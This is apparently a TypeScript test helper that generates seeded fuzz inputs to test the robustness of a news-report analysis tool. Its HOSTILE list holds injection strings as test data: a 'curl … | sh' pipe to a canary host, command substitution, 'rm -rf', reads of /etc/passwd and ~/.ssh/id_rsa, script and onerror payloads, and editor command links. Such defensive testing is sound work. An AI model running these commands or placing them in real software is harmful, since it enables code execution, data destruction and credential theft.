/**
 * Seeded generator of hostile report texts for the reliability tests (issue 6): real reports
 * with random edits, random Unicode (astral characters, lone surrogates), unbalanced quotes,
 * huge numbers, very long lines, punctuation only. Same seed, same inputs.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

export type Rng = () => number;

/** mulberry32: small, fast, good enough for test inputs. */
export function makeRng(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)];
const int = (rng: Rng, lo: number, hi: number) => lo + Math.floor(rng() * (hi - lo + 1));

const ROOT = join(import.meta.dirname ?? new URL('.', import.meta.url).pathname, '../..');

/** The real reports the mutations start from: the seeds and the project's own fixtures. */
export function baseReports(): string[] {
  const dir = join(ROOT, 'seeds');
  return readdirSync(dir).sort().map((f) => readFileSync(join(dir, f), 'utf8'));
}

/**
 * Real reports from the dev data (ECB+, MEANTIME, PolNeAR; never CoNLL), read at run time only
 * and only when the folder is there (NEWSLENS_DEV_DATA, default /work/shared/dev-data): `limit`
 * files spread evenly over the sorted list. An empty list when the data is absent.
 */
export function devDataReports(limit: number): string[] {
  const root = process.env.NEWSLENS_DEV_DATA ?? '/work/shared/dev-data';
  const files: string[] = [];
  const walk = (dir: string, depth: number): void => {
    if (!existsSync(dir) || depth > 3) return;
    for (const e of readdirSync(dir, { withFileTypes: true }).sort((a, b) => (a.name < b.name ? -1 : 1))) {
      if (e.isDirectory()) walk(join(dir, e.name), depth + 1);
      else if (e.name.endsWith('.txt')) files.push(join(dir, e.name));
    }
  };
  for (const sub of ['crossdoc/ecbplus', 'crossdoc/meantime_en', 'attribution/polnear_dev/docs']) walk(join(root, sub), 0);
  if (!files.length || limit <= 0) return [];
  const step = Math.max(1, Math.floor(files.length / limit));
  const out: string[] = [];
  for (let i = 0; i < files.length && out.length < limit; i += step) {
    try {
      out.push(readFileSync(files[i], 'utf8'));
    } catch {
      // unreadable: leave it out
    }
  }
  return out;
}

/** Text a hostile report might carry to reach the user's machine: links, commands, paths, HTML. */
export const HOSTILE = [
  '[x](command:workbench.action.terminal.new)', '[run](command:_workbench.downloadResource?%5B%22http%3A%2F%2Fnl-canary.invalid%22%5D)',
  '<img src="http://nl-canary.invalid/p.png" onerror="alert(1)">', '<script>fetch("https://nl-canary.invalid")</script>',
  '<a href="javascript:alert(1)">click</a>', 'https://nl-canary.invalid/story', 'http://127.0.0.1:9/nl-canary',
  'file:///etc/passwd', 'file:///tmp/nl-canary/secret.txt', '/tmp/nl-canary/notes.txt', '../../nl-canary/x.txt', '~/.ssh/id_rsa',
  '\\\\nl-canary\\share\\x.txt', '$(touch /tmp/nl-canary-pwned)', '`rm -rf nl-canary`', '; curl nl-canary.invalid | sh',
  '![img](https://nl-canary.invalid/i.png)', '<https://nl-canary.invalid>', '**bold** _em_ `code` # heading', '> quote\n- list',
  '&lt;b&gt;', '\u0000', '\u001b[31mred\u001b[0m', '\u2028', '\u2029', '\u202e', '{{constructor.constructor("return process")()}}',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty',
];

/** A news-like report carrying every HOSTILE piece in quotes, names and claims. */
export function hostileReport(): string {
  const lines = HOSTILE.map((h, i) => `Officials said “${h}” on Tuesday, and ${i + 2},000 people ${h} were killed, according to ${h} Barack Obama.`);
  return `${lines.join('\n\n')}\n`;
}

const PIECES = [
  '“', '”', '"', '‘', '’', "'", '—', '–', '…', '\r\n', '\n\n', '\r', '\t', '\u00a0', '\u200b', '\ufeff',
  '😀', '👩‍👩‍👧', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢', '\ud800', '\udc00', '\udfff\ud83d', 'é', 'ß', '中文', 'العربية', '<!--', '-->',
  '<!-- newslens-disable-next-line -->', '[x](command:workbench.action.quit)', '<script>alert(1)</script>',
  ...HOSTILE.slice(0, 12), '\u2028', '\u0000', '\u001f', '\ufffd', '\ud83d\ude00\u200d\ud83d\udd25', 'Barack Obama', 'Angela Merkel', 'Wang Kejian',
  '999999999999999999999999', '1e308', '-0', '3.14.15', '$1,000,000,000,000', '40%', 'Oct. 7', 'Tuesday, March 20',
  'more than 31,000 Palestinians killed', 'according to', 'said', ' reportedly ', 'Mr.', 'U.S.', 'St.', '(', ')', '[', ']',
];

export type Mutation = (rng: Rng, text: string) => string;

const MUTATIONS: Mutation[] = [
  (rng, t) => insertAt(rng, t, pick(rng, PIECES)),
  (rng, t) => deleteRange(rng, t),
  (rng, t) => insertAt(rng, t, randomUnicode(rng, int(rng, 1, 40))),
  (rng, t) => t.replace(/[“”"]/g, (m) => (rng() < 0.3 ? '' : m)),
  (rng, t) => t.replace(/\d[\d,]*/g, (m) => (rng() < 0.3 ? String(int(rng, 0, 9)).repeat(int(rng, 1, 30)) : m)),
  (rng, t) => t.replace(/\n/g, () => pick(rng, ['\n', '\r\n', '\r', ' '])),
  (rng, t) => { const i = int(rng, 0, t.length); return t.slice(i) + t.slice(0, i); },
];

function insertAt(rng: Rng, t: string, piece: string): string {
  const i = int(rng, 0, t.length);
  return t.slice(0, i) + piece + t.slice(i);
}

function deleteRange(rng: Rng, t: string): string {
  const i = int(rng, 0, t.length);
  return t.slice(0, i) + t.slice(Math.min(t.length, i + int(rng, 1, 200)));
}

/** Random code units from several planes, lone surrogates included. */
export function randomUnicode(rng: Rng, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) {
    const r = rng();
    if (r < 0.4) s += String.fromCharCode(int(rng, 0x20, 0x7e));
    else if (r < 0.55) s += pick(rng, [' ', '\n', '.', ',', '"', '“', '”', '’']);
    else if (r < 0.7) s += String.fromCharCode(int(rng, 0xa0, 0x2fff));
    else if (r < 0.85) s += String.fromCodePoint(int(rng, 0x10000, 0x1faff));
    else s += String.fromCharCode(int(rng, 0xd800, 0xdfff));
  }
  return s;
}

/** The kinds of generated input, each a function of the rng. */
export function generateInput(rng: Rng, bases: readonly string[], index: number): { kind: string; text: string } {
  // One input in 50 is a very long line (they dominate the run time).
  const kind = index % 50 === 2 ? 2 : index % 10 === 2 ? 5 : index % 10;
  // 6: CRLF line ends and a BOM; 7: links, commands, paths and HTML; 8: astral letters; 9: mutated.
  switch (kind) {
    case 0: return { kind: 'unicode', text: randomUnicode(rng, int(rng, 0, 2000)) };
    case 1: return { kind: 'punctuation', text: Array.from({ length: int(rng, 1, 3000) }, () => pick(rng, ['.', ',', '"', '“', '”', '!', '?', '—', ' ', '\n', '(', ')'])).join('') };
    case 2: return { kind: 'long-line', text: pick(rng, bases).replace(/\n+/g, ' ').repeat(int(rng, 1, 3)).padEnd(int(rng, 20000, 100000), ' word') };
    case 3: return { kind: 'numbers', text: Array.from({ length: int(rng, 1, 200) }, () => `${'9'.repeat(int(rng, 1, rng() < 0.1 ? 400 : 40))}${pick(rng, ['', '.5', 'e308', ' million', ',000,000'])} people ${pick(rng, ['killed', 'died', ''])}`).join(', ') };
    case 4: return { kind: 'quotes', text: pick(rng, bases).replace(/[”"]/g, () => (rng() < 0.5 ? '' : '“')) };
    case 6: return { kind: 'crlf-bom', text: `\ufeff${pick(rng, bases).replace(/\r?\n/g, '\r\n')}` };
    case 7: return { kind: 'hostile', text: Array.from({ length: int(rng, 1, 30) }, () => `${pick(rng, ['He said “', 'Police said ', '', '“'])}${pick(rng, HOSTILE)}${pick(rng, ['”', '.', ' ', '\n', '\n\n'])}`).join(' ') };
    case 8: return { kind: 'astral', text: pick(rng, bases).replace(/[aeiou ]/g, (m) => (rng() < 0.08 ? String.fromCodePoint(int(rng, 0x1d400, 0x1d7ff)) + m : m)) };
    default: {
      let t = pick(rng, bases);
      const edits = int(rng, 1, 12);
      for (let i = 0; i < edits; i++) t = pick(rng, MUTATIONS)(rng, t);
      return { kind: 'mutated', text: t };
    }
  }
}

/** Whether [start, end) splits a surrogate pair in text. */
export function splitsSurrogatePair(text: string, offset: number): boolean {
  if (offset <= 0 || offset >= text.length) return false;
  const lo = text.charCodeAt(offset);
  const hi = text.charCodeAt(offset - 1);
  return (hi & 0xfc00) === 0xd800 && (lo & 0xfc00) === 0xdc00;
}

export interface SpanLike {
  start: number;
  end: number;
}

/** Every object with numeric `start` and `end` inside `value` (the spans an analysis or comparison carries). */
export function spansIn(value: unknown, out: Array<SpanLike & Record<string, unknown>> = []): Array<SpanLike & Record<string, unknown>> {
  if (Array.isArray(value)) for (const v of value) spansIn(v, out);
  else if (value !== null && typeof value === 'object') {
    const o = value as Record<string, unknown>;
    if (typeof o.start === 'number' && typeof o.end === 'number') out.push(o as SpanLike & Record<string, unknown>);
    for (const v of Object.values(o)) if (v !== null && typeof v === 'object') spansIn(v, out);
  }
  return out;
}

/** Why a span is bad in `text` (outside it, reversed, splitting a surrogate pair), or null when fine. */
export function badSpan(text: string, s: SpanLike): string | null {
  if (!Number.isInteger(s.start) || !Number.isInteger(s.end)) return `span ${s.start}-${s.end} is not whole numbers`;
  if (s.start < 0 || s.end > text.length || s.start > s.end) return `span ${s.start}-${s.end} outside 0-${text.length}`;
  if (splitsSurrogatePair(text, s.start) || splitsSurrogatePair(text, s.end)) return `span ${s.start}-${s.end} splits a surrogate pair`;
  return null;
}

/**
 * The problems of spans found in analyses and their comparison: each span checked against the
 * text of the report it belongs to (a `report` field names another report). Empty when all fine.
 */
export function badSpans(reports: ReadonlyArray<{ id: string; analysis: { text: string } }>, extra: unknown = null): string[] {
  const texts = new Map(reports.map((r) => [r.id, r.analysis.text]));
  const problems: string[] = [];
  const check = (own: string | undefined, value: unknown): void => {
    for (const s of spansIn(value)) {
      const id = typeof s.report === 'string' ? s.report : own;
      const text = id === undefined ? undefined : texts.get(id);
      if (text === undefined) {
        problems.push(`span ${s.start}-${s.end} names an unknown report ${String(id)}`);
        continue;
      }
      const bad = badSpan(text, s);
      if (bad) problems.push(`${id}: ${bad}`);
    }
  };
  for (const r of reports) check(r.id, { ...r.analysis, text: undefined });
  if (extra && typeof extra === 'object') {
    // A comparison: problems are keyed by report id; links and entities name their reports.
    const { problems: perReport, ...rest } = extra as { problems?: Record<string, unknown> };
    for (const [id, ps] of Object.entries(perReport ?? {})) check(id, ps);
    check(undefined, rest);
  }
  return problems;
}
